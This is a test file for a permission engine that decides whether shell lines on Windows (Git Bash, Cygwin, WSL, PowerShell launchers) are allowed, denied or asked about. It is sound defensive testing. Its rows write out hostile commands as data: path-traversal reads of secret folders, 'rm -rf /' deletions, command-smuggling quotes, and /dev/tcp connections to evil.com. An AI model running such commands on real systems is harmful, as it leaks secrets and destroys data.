// bash lines on win32 (Git Bash, MSYS2, Cygwin): their programs read POSIX-form paths the MSYS
// way (src/paths/msys-path.ts), and Windows launchers run their lines (windows-launchers.ts).
// A UNC server without a share is reached too. Found by a review (hunt 3 F5, F6, F8, F10): each denied or asking line here was allowed beside the
// deny rule it meets.
import { describe, expect, it } from 'vitest';
import { compilePolicy, decide, loadSettingsValue } from '../src/index.js';
import { lineTable } from './helpers/line-table.js';
import { REPO_WINDOWS } from './helpers/policy.js';

const RULES = {
  deny: ['Shell(rm *)', 'Read(//etc/**)', 'Read(~/.ssh/**)', 'Read(//c/Secrets/**)', 'Edit(//c/Windows/**)', 'Domain(evil.com)'],
  allow: ['Shell(*)', 'Edit(//c/**)'],
};
const POLICY = compilePolicy([{ loaded: loadSettingsValue({ permissions: RULES }, { file: 'b.json', channel: 'file' }) }]);
const WINDOWS = { cwd: 'C:\\w\\repo', workspace: ['C:\\w\\repo'], home: 'C:\\Users\\dev', platform: 'win32' as const };

function decision(line: string, shell: 'bash' | 'powershell' = 'bash'): string {
  return decide(POLICY, { op: 'shell', command: line, shell }, WINDOWS).decision;
}

describe('MSYS/Cygwin paths in a bash line on win32', () => {
  it.each([
    // `..` climbs to the POSIX root `/`, whose `c` is drive C: (from /c/w/repo).
    ['cat ../../../c/Secrets/x', 'deny'], ['cp x ../../../c/Windows/system32/x', 'deny'],
    ['cat /./c/Secrets/x', 'deny'], ['cat /c/../c/Secrets/x', 'deny'], ['cat /dev/../c/Secrets/x', 'deny'],
    ['cat /usr/../c/Secrets/x', 'deny'], ['cat ~/../../../c/Secrets/x', 'deny'],
    ['cd ../../.. && cat c/Secrets/x', 'deny'], ['cd /c/.. && cat c/Secrets/x', 'deny'], ['cd /c && cat ../c/Secrets/x', 'deny'],
    ['grep -r x ../../../c/Secrets', 'deny'], ['cat ../../../c/Secrets/*', 'ask'],
    // Cygwin's drive prefixes; /proc/PID/root is `/`.
    ['cat /cygdrive/c/Secrets/x', 'deny'], ['cp x /cygdrive/c/Windows/x', 'deny'], ['cat /proc/cygdrive/c/Secrets/x', 'deny'],
    ['cat /CYGDRIVE/C/Secrets/x', 'deny'], ['cat /proc/self/root/c/Secrets/x', 'deny'], ['cat /proc/self/root/cygdrive/c/Secrets/x', 'deny'],
    // A process's links and the NT object namespace may lead anywhere.
    ['cat /proc/self/cwd/../../Secrets/x', 'ask'], ['cat /proc/1/cwd/x', 'ask'], ['cat /proc/self/fd/3', 'ask'], ['cat /dev/fd/3', 'ask'],
    ['cat /proc/sys/DosDevices/C:/Secrets/x', 'ask'], ['cat "/proc/sys/GLOBAL??/C:/Secrets/x"', 'ask'],
    ['cat /proc/sys/Device/HarddiskVolume3/Secrets/x', 'ask'],
    // Ordinary lines stay allowed.
    ['cat ../x.txt', 'allow'], ['cat ./a.txt', 'allow'], ['ls ..', 'allow'], ['cd .. && cat ./x', 'allow'], ['cat /tmp/x', 'allow'],
    ['cat /proc/cpuinfo', 'allow'], ['cat /c/w/repo/../other/x', 'allow'], ['cp a.txt ../b.txt', 'allow'], ['git status', 'allow'],
  ] as const)('%s -> %s', (line, expected) => {
    expect(decision(line)).toBe(expected);
  });

  it('a PowerShell line reads such paths as Windows does (`..` stops at the drive)', () => {
    expect(decision('Get-Content ../../../c/Secrets/x', 'powershell')).toBe('allow');
  });
});

// Lines that cross from PowerShell into bash or WSL (hunt 21): the bash commands a PowerShell line
// runs read paths as MSYS does, and `bash` may be System32's WSL launcher; a wsl line's paths are
// the distribution's. Each denied or asking line here was allowed beside the deny rule it meets.
describe('bash and wsl lines a PowerShell line runs on win32', () => {
  it.each([
    // A nested bash line, and MSYS tools PowerShell runs itself, read `..` up to `/` and /cygdrive.
    ["bash -c 'cat ../../../c/Secrets/x'", 'deny'], ["bash.exe -c 'cat /cygdrive/c/Secrets/x'", 'deny'],
    ["sh -c 'cat ../../../proc/cygdrive/c/Secrets/x'", 'deny'], ["bash -c 'cd ../../..; cat c/Secrets/x'", 'deny'],
    ["env bash -c 'cat ../../../c/Secrets/x'", 'deny'], ["& bash -c 'cat ../../../c/Secrets/x'", 'deny'], ["sh -c 'cat < ../../../c/Secrets/x'", 'deny'],
    ["Start-Process bash -ArgumentList '-c','\"cat ../../../c/Secrets/x\"'", 'deny'], ['grep.exe -r x ../../../c/Secrets', 'deny'],
    ["Invoke-Expression \"sh -c 'cat ../../../c/Secrets/x'\"", 'deny'], ["bash -c 'cat /dev/fd/3'", 'ask'],
    // `bash` may be WSL's (System32\bash.exe): its absolute paths and `~` are the distribution's.
    ["bash -c 'cat /mnt/c/Secrets/x'", 'ask'], ["bash -c 'cat ~/x'", 'ask'],
    // wsl: /mnt/c is C:, it starts in /mnt/c/w/repo (`../../../c` is /mnt/c), `--cd` moves it.
    ['wsl cat /mnt/c/Secrets/x', 'ask'], ['wsl -e cat /mnt/c/Secrets/x', 'ask'], ['wsl.exe -d Ubuntu -- cat /mnt/c/Secrets/x', 'ask'],
    ['wsl cat ../../../c/Secrets/x', 'ask'], ['wsl --cd / cat mnt/c/Secrets/x', 'ask'], ['wsl --cd C:\\Secrets cat x', 'deny'],
    ["wsl bash -c '\"cat /mnt/c/Secrets/x\"'", 'ask'], ['wsl cat ../../Secrets/x', 'deny'],
    // Windows PowerShell 5.1 passes a word's `"` unescaped (`"echo "a;rm x""`): the program may split it otherwise.
    ["pwsh -c 'Write-Output \"a;rm x\"'", 'deny'], ["powershell -c 'echo \"a;rm x\"'", 'deny'], ["bash -c 'echo \"a;rm x\"'", 'deny'],
    ["bash -c 'echo \"a;rm${IFS}x\"'", 'ask'], ["bash -c 'echo \"hi\"'", 'ask'], ["pwsh -c 'Write-Output \"hi\"'", 'allow'],
    // Ordinary lines stay allowed.
    ["bash -c 'npm test'", 'allow'], ["bash -c 'cat README.md ../x'", 'allow'], ["sh -c 'ls -la'", 'allow'], ['grep.exe -r TODO src', 'allow'],
    ['wsl ls', 'allow'], ['wsl npm test', 'allow'], ['wsl cat src/a.ts', 'allow'], ["pwsh -c 'Get-ChildItem'", 'allow'],
    ['Get-Content ../../../c/Secrets/x', 'allow'],
  ] as const)('%s -> %s', (line, expected) => {
    expect(decision(line, 'powershell')).toBe(expected);
  });

  it('a bash line passes its words to pwsh as they are (no legacy quoting)', () => {
    expect(decision("pwsh -c 'Write-Output \"a;rm x\"'")).toBe('allow');
  });

  // Session 39: under WSL a linux client reads drive C: at /mnt/c, so a deny written for the drive
  // (`//c/Secrets/**`) covers `/mnt/c/Secrets/x` on linux too (deny and ask rules only; this row was
  // allow before). A bare `/c/...` on linux stays the linux path `/c/...` it always was.
  it('on linux, /mnt/c (WSL) is drive C: for deny rules written for the drive', () => {
    const linux = { cwd: '/w/repo', workspace: ['/w/repo'], home: '/home/dev', platform: 'linux' as const };
    expect(decide(POLICY, { op: 'shell', command: "bash -c 'cat /mnt/c/Secrets/x'", shell: 'powershell' }, linux).decision).toBe('deny');
    expect(decide(POLICY, { op: 'shell', command: "bash -c 'cat /mnt/d/Secrets/x'", shell: 'powershell' }, linux).decision).toBe('allow');
  });
});

describe('Windows launchers in a bash line', () => {
  it.each([
    // cmd /c, /k, /r (attached too, MSYS's //c): never allowed, its line read for deny rules; bare cmd reads stdin.
    ['cmd.exe /c rm x', 'deny'], ['cmd /C "rm x"', 'deny'], ['CMD /C rm x', 'deny'], ['cmd /s /c "rm x"', 'deny'], ['cmd /v:on /c rm x', 'deny'],
    ['cmd.exe /k rm x', 'deny'], ['cmd /r rm x', 'deny'], ['cmd /c"rm x"', 'deny'], ['cmd //c rm x', 'deny'], ['cmd', 'ask'], ['cmd //c dir', 'ask'],
    // wsl runs its command in a distribution (whose paths are not placed: never allowed); without one, a shell on stdin.
    ['wsl rm x', 'deny'], ['wsl.exe -e rm x', 'deny'], ['wsl -- rm x', 'deny'], ['wsl --exec rm x', 'deny'], ['wsl -d Ubuntu -u root rm x', 'deny'],
    ['wsl cat /mnt/c/Secrets/x', 'ask'], ['wsl', 'ask'], ['wsl -d Ubuntu', 'ask'], ['wsl --list', 'allow'],
    // MSYS's start runs cmd's start; winpty runs its command; sc is sc.exe.
    ['start rm x', 'deny'], ['start "" rm x', 'deny'], ['start //b rm x', 'deny'], ['start x.bat', 'ask'],
    ['winpty rm x', 'deny'], ['winpty -Xallow-non-tty rm x', 'deny'], ['winpty node app.js', 'allow'],
    ['sc create x binPath= "rm x"', 'deny'], ['sc query', 'allow'],
    // `//x` is `/x` for a Windows tool (and schtasks takes `-x`).
    ['schtasks //create //tn x //tr "rm x" //sc once //st 00:00', 'deny'], ['schtasks -create -tn x -tr "rm x"', 'deny'], ['mstsc //v:evil.com', 'deny'],
    // Terminals (hunt 4, F4): mintty runs `[OPTIONS] CMD` or `-e CMD`; git-bash hands its words to bash; ConEmu's `-run CMD`.
    ['mintty rm x', 'deny'], ['mintty -e rm x', 'deny'], ['mintty.exe -t T -h always rm x', 'deny'], ['mintty -o Shell=x ls', 'ask'],
    ['git-bash -c "rm x"', 'deny'], ['Git-Bash.exe -c "rm x"', 'deny'], ['git-bash --cd-to-home -c ls', 'ask'], ['git-bash --command=usr/bin/rm.exe x', 'ask'],
    ['ConEmu64.exe -run rm x', 'deny'], ['conemu //run rm x', 'deny'], ['conemu64 -Dir C:/ -run ls', 'ask'],
    ['mintty git status', 'allow'], ['git-bash -c "git status"', 'allow'],
    ['npm start', 'allow'], ['git status', 'allow'],
  ] as const)('%s -> %s', (line, expected) => {
    expect(decision(line)).toBe(expected);
  });
});

describe('a UNC server without a share in a bash line reaches the server (Cygwin lists its shares)', () => {
  it.each([
    ['ls //evil.com', 'deny'], ['ls -la //evil.com/', 'deny'], ['cd //evil.com', 'deny'], ['test -d //evil.com', 'deny'], ['find //evil.com', 'deny'],
    ["ls '\\\\evil.com'", 'deny'], ['cat //evil.com', 'deny'],
    // (Git Bash opens /dev/tcp/HOST/PORT as a connection, as bash elsewhere.)
    ['echo x > /dev/tcp/evil.com/80', 'deny'], ['cat < /dev/udp/evil.com/53', 'deny'],
    ['ls //localhost', 'allow'], ['ls //good.com', 'allow'], ['cscript //nologo x.vbs', 'allow'], ['echo //evil.com', 'allow'],
  ] as const)('%s -> %s', (line, expected) => {
    expect(decision(line)).toBe(expected);
  });
});

describe('Windows path words in Shell deny/ask rules: either separator, any case, and in bash /c as the drive C: (MSYS)', () => {
  const load = (deny: string[]) => compilePolicy([{ loaded: loadSettingsValue({ permissions: { deny, allow: ['Shell(*)'] } }, { file: 'b.json', channel: 'file' }) }]);
  const SLASHES = load(['Shell(Remove-Item C:/Windows/*)', 'Shell(rm C:/Windows/*)']);
  // (A backslash escapes in a Shell rule: `C:\Windows\*` was `C:Windows*`, a literal `*`; now also read as C:/Windows/*.)
  const BACKSLASHES = load(['Shell(Remove-Item C:\\Windows\\*)', 'Shell(rm C:\\Windows\\*)']);
  const at = (policy: typeof SLASHES, line: string, shell: 'bash' | 'powershell') => decide(policy, { op: 'shell', command: line, shell }, WINDOWS).decision;
  // (Each denied row was allowed before.)
  it.each([
    ['Remove-Item C:\\Windows\\win.ini', 'powershell', 'deny'], ['ri C:\\Windows\\win.ini', 'powershell', 'deny'],
    ['Remove-Item c:\\WINDOWS\\win.ini', 'powershell', 'deny'], ['Remove-Item -Path C:\\Windows\\x', 'powershell', 'deny'],
    ['del C:/windows/x', 'powershell', 'deny'], ['Remove-Item C:\\Windows/x', 'powershell', 'deny'],
    ["rm 'C:\\Windows\\x'", 'bash', 'deny'], ['rm C:/WINDOWS/x', 'bash', 'deny'], ['rm /c/Windows/x', 'bash', 'deny'],
    ['rm /C/windows/x', 'bash', 'deny'], ['rm -f "C:\\Windows\\x"', 'bash', 'deny'],
    ['Remove-Item C:\\w\\repo\\x', 'powershell', 'allow'], ['Remove-Item C:\\Windows2\\x', 'powershell', 'allow'],
    ['Get-Content C:\\Windows\\win.ini', 'powershell', 'allow'], ['Get-Content a.txt', 'powershell', 'allow'],
    ['rm C:/w/x', 'bash', 'allow'], ['rm /cx/Windows/x', 'bash', 'allow'], ['git status', 'bash', 'allow'], ['npm test', 'bash', 'allow'],
    // (n2 F6: allowed.) The words as Windows reads them: the root of the cwd's drive, `..`,
    // trailing dots, a provider-qualified path, the drive's admin share; an 8.3 name asks.
    ['Remove-Item \\Windows\\x', 'powershell', 'deny'], ['Remove-Item /Windows/x', 'powershell', 'deny'],
    ['Remove-Item C:\\w\\..\\Windows\\x', 'powershell', 'deny'], ['Remove-Item C:\\Windows.\\x', 'powershell', 'deny'],
    ["Remove-Item 'C:\\Windows \\x'", 'powershell', 'deny'], ['Remove-Item FileSystem::C:\\Windows\\x', 'powershell', 'deny'],
    ['Remove-Item Microsoft.PowerShell.Core\\FileSystem::C:\\Windows\\x', 'powershell', 'deny'],
    ['Remove-Item \\\\localhost\\C$\\Windows\\x', 'powershell', 'deny'], ['Remove-Item C:\\WINDOW~1\\x', 'powershell', 'ask'],
    ['Remove-Item \\temp\\x', 'powershell', 'allow'], ['Remove-Item D:\\Windows\\x', 'powershell', 'allow'],
    ['Remove-Item \\\\server\\C$\\Windows\\x', 'powershell', 'allow'],
    // (fxa: allowed.) A cmdlet's `-Path:VALUE` (`-Path: VALUE`, abbreviated, quoted) binds VALUE as `-Path VALUE` does.
    ['Remove-Item -Path:C:/Windows/x', 'powershell', 'deny'], ['Remove-Item -LiteralPath:C:/Windows/x', 'powershell', 'deny'],
    ["Remove-Item -Path:'C:\\Windows\\x'", 'powershell', 'deny'], ['Remove-Item -Pa:C:/Windows/x', 'powershell', 'deny'],
    ['Remove-Item -Path: C:/Windows/x', 'powershell', 'deny'], ['Remove-Item -Path:C:\\w\\..\\Windows\\x', 'powershell', 'deny'],
    ['Remove-Item -Path:c:\\WINDOWS\\x', 'powershell', 'deny'], ['Remove-Item -Confirm:$false C:/Windows/x', 'powershell', 'deny'],
    ['Remove-Item -Path:C:/w/repo/x', 'powershell', 'allow'], ['Get-Content -Path:C:/Windows/x', 'powershell', 'allow'],
    ['rm --interactive=never /c/WINDOWS/x', 'bash', 'deny'],
  ] as const)('%s (%s) -> %s', (line, shell, expected) => {
    expect(at(SLASHES, line, shell)).toBe(expected);
    expect(at(BACKSLASHES, line, shell)).toBe(expected);
  });

  it('a PowerShell line does not read /c/x as the drive; linux compares as written', () => {
    expect(at(SLASHES, 'Remove-Item /c/Windows/x', 'powershell')).toBe('allow');
    const linux = (line: string) => decide(SLASHES, { op: 'shell', command: line, shell: 'powershell' }, { ...WINDOWS, platform: 'linux' }).decision;
    expect(linux('Remove-Item C:/Windows/x')).toBe('deny');
    expect(linux('Remove-Item C:/WINDOWS/x')).toBe('allow');
  });

  it('an option word\'s absolute value meets a rule\'s path word in either spelling (fxa: each allowed)', () => {
    const options = load(['Shell(tar --file C:/Windows/*)', 'Shell(Remove-Item -Path C:/Windows/*)', 'Shell(zip --out=C:/Windows/*)']);
    expect(at(options, 'tar --file=/c/WINDOWS/x', 'bash')).toBe('deny');
    expect(at(options, "tar '--file=C:\\Windows\\x'", 'bash')).toBe('deny');
    expect(at(options, 'Remove-Item -pa:c:\\windows\\x', 'powershell')).toBe('deny');
    expect(at(options, 'zip --out=C:\\WINDOWS\\x', 'powershell')).toBe('deny');
    expect(at(options, 'zip --out=/c/windows/x', 'bash')).toBe('deny');
    expect(at(options, 'tar --file=/c/w/x', 'bash')).toBe('allow');
    expect(at(options, 'Remove-Item -Path:C:/w/x', 'powershell')).toBe('allow');
  });
});

// `/` in a bash line on win32 is the MSYS/Cygwin root, the install directory (C:\msys64,
// C:\Program Files\Git), not C:\ : `cd /; rm -rf *` removes what is there, and maybe the drive
// mount points (`c`, on MSYS's cygdrive prefix `/`) if its listing shows them. No path of C:\Windows
// is named for certain, so it asks, never denies nor allows. A named `Windows` below `/` is also
// read on the current drive (C:\Windows, as a Windows program would), so it denies; `c` is drive C:.
describe('the POSIX root / of a bash line on win32 (pinned: ask where a glob may reach a drive)', () => {
  lineTable({ deny: ['Edit(//c/Windows/**)'], allow: ['Shell(*)', 'Read(/**)', 'Edit(/**)'] }, [
    ['cd /; rm -rf *', 'ask'], ['rm -rf /*', 'ask'], ['cd / && rm -rf ./*', 'ask'], ['cd /; rm -rf c*', 'ask'], ['rm -rf /', 'ask'],
    ['cd /; rm -rf c', 'ask'], ['cd /; rm -rf c/Windows', 'deny'], ['cd /; rm -rf cygdrive/c/Windows', 'deny'], ['cd /; rm -rf Windows', 'deny'],
    // Precision: the install directory's own files.
    ['cd /; rm -rf usr', 'allow'], ['cd /; ls', 'allow'], ['rm -rf /tmp/x', 'allow'],
  ], 'shell', REPO_WINDOWS);
});
